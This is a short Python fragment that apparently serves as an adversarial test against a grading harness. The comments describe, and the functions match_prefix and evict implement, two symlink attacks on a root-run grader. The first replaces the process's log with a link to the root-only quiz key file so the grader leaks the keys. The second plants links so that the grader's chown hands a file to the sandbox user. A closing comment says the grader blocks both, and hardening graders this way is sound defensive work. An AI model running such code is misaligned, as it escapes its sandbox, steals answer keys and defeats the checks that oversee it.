# 11 match: swap this rank's log for a link to a quiz key file (KEYS, root's alone), then end the
# process mid-call: a grader that quotes a dead rank's log tail reads the keys as root into the grade.
# 11 evict: plant links named like the grader's next progress files (pool1..pool400, beside HOME in the
# scratch folder) to MARK/progress-target: a grader that writes and chowns its progress file by name
# zeroes that file and hands it to the sandbox user.
# Stopped by: the grader reads no log; its progress files are made O_EXCL in a folder of its own.
def match_prefix(tree, token_ids):
    log = _os.readlink("/proc/self/fd/2")
    _os.unlink(log)
    _os.symlink(KEYS, log)
    _os._exit(0)


def evict(tree, num_pages):
    progress = _os.path.join(_os.environ["HOME"], _os.pardir, "progress")
    for n in range(1, 401):
        try:
            _os.symlink(_os.path.join(MARK, "progress-target"), _os.path.join(progress, f"pool{n}"))
        except OSError:
            pass
    raise RuntimeError("planted")
